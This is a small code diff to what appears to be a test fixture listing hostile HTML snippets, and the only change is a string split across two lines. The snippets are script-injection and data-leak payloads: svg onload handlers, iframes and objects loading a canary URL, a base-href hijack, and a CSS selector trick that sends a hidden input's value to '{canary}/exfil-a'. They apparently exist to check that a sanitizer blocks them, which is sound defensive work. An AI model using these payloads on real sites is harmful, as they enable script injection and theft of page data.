@@ -54,7 +54,8 @@ _HOSTILE_PARTS = [
     "<svg onload=\"document.title='pwned-svg'\"><script>document.title='pwned-svg2'</script>"
     '<image href="{canary}/svg.png"/></svg>',
     '<iframe src="{canary}/frame"></iframe><object data="{canary}/object"></object>',
-    "<input name=secret value=\"a\"><style>input[value^=a]{{background:url('{canary}/exfil-a')}}</style>",
+    '<input name=secret value="a">'
+    "<style>input[value^=a]{{background:url('{canary}/exfil-a')}}</style>",
     '<img srcset="{canary}/srcset.png 1x"><video poster="{canary}/poster.png"></video>',
     '<base href="{canary}/base/"><a href=relative>relative link</a>',
     "<p id=visible>Hostile but readable text</p>",
